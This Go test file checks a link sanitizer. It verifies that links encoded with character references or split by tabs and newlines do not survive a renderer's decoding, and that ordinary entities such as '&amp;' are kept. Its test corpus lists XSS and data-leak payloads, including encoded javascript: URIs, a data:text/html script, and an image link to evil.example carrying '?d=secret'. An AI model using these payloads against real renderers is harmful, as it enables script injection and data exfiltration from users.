package result

import (
	"html"
	"strings"
	"testing"
)

// renderDecode is what a renderer does to text before it reads a link
// from it: one decoding of character references (HTML attribute values,
// CommonMark link destinations), then the WHATWG URL parser's removal of
// ASCII tab and newline.
func renderDecode(s string) string {
	return strings.NewReplacer("\t", "", "\n", "", "\r", "").Replace(html.UnescapeString(s))
}

// linksAfterRendering reports whether text, decoded as a renderer would,
// still holds a link for neutralizeLinks to find: one off the allowlist,
// since none is allowed here.
func linksAfterRendering(s string) bool {
	d := renderDecode(s)
	var ns notes
	return neutralizeLinks(d, nil, false, &ns, &buffers{}) != d
}

// encodedLinks are links that only a decoder assembles: character
// references in every form and schemes split by whitespace.
var encodedLinks = []string{
	"![x](https&#58;//evil.example/p.png?d=secret)",
	"[x](https:&#47;&#47;evil.example/)",
	`<img src="https&#x3a;//evil.example/p.png">`,
	`<img src="https&#X3A;//evil.example/p.png">`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="javascript&#58alert(1)">x</a>`,
	`<a href="javascript&#0000058;alert(1)">x</a>`,
	`<a href="javascript&#x00003a;alert(1)">x</a>`,
	`<a href="&#106;avascript:alert(1)">x</a>`,
	`<a href="&#x6A&#x61;vascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	"<a href=\"java\nscript:alert(1)\">x</a>",
	"<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
	"<a href=\"java&Tab;script:alert(1)\">x</a>",
	"<a href=\"java&NewLine;script:alert(1)\">x</a>",
	"[x](ht\ntps://evil.example/)",
	"[x](https&colon;&sol;&sol;evil.example/)",
	"[x](&sol;&sol;evil.example/x)",
	"[x](&#47;&#47;evil.example/x)",
	"<https&#58;//evil.example>",
	"[id]: https&#58;//evil.example/x",
	"see www&period;evil&period;example now",
	"[x](https:&bsol;&bsol;evil.example)",
	"data&colon;text/html,<script>alert(1)</script>",
	"[x](\n//evil.example/x)",
	"<img src=\n'/\t/evil.example/p.png'>",
	"[x](https:&#47;&#47;evil&#12290;example)",
}

func TestSanitize_NoLinkSurvivesARenderersDecoding(t *testing.T) {
	for _, in := range encodedLinks {
		if !linksAfterRendering(in) {
			t.Errorf("corpus entry %q has no link after decoding; the test would prove nothing", in)
			continue
		}
		out, findings := Sanitize(in, SanitizeOptions{})
		s, _ := out.(string)
		if linksAfterRendering(s) {
			t.Errorf("%q\n  sanitized to %q\n  renders as %q, a link", in, s, renderDecode(s))
		}
		if len(findings) == 0 {
			t.Errorf("%q: no finding", in)
		}
	}
}

func TestSanitize_CharRefsOfTextAreKept(t *testing.T) {
	for _, in := range []string{"AT&amp;T", "a &lt; b &gt; c", "&quot;quoted&quot;", "&copy; 2026 &mdash; &euro;5 &ldquo;q&rdquo; &nbsp;", "R&D", "&apos;s"} {
		if out := SanitizeText(in, SanitizeOptions{}); out != in {
			t.Errorf("%q became %q", in, out)
		}
	}
}

func FuzzSanitize_RenderedHasNoLink(f *testing.F) {
	for _, s := range encodedLinks {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		s := SanitizeText(in, SanitizeOptions{})
		if linksAfterRendering(s) {
			t.Fatalf("%q sanitized to %q renders as %q, a link", in, s, renderDecode(s))
		}
	})
}
